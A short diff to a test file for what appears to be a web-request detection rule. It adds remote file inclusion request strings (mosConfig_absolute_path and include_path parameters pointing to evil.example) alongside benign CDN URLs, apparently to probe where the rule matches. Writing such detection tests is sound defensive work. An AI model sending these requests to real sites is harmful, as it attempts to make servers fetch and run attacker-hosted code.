@@ -47,5 +47,8 @@ export default defineRule({
     'GET /view?file=https://cdn.example/report.pdf HTTP/1.1',
     'GET /player?content=https://cdn.example/film.mp4 HTTP/1.1',
     { message: 'mosConfig_absolute_path=http://evil.example/a.txt' },
+    'GET /index.php?mymosConfig_absolute_path=http://evil.example/a.txt HTTP/1.1',
+    'GET /index.php?mosConfig_absolute_path=http://evil.example/a.txts HTTP/1.1',
+    'GET /index.php?include_path=http://evil.example/?s HTTP/1.1',
   ],
 })
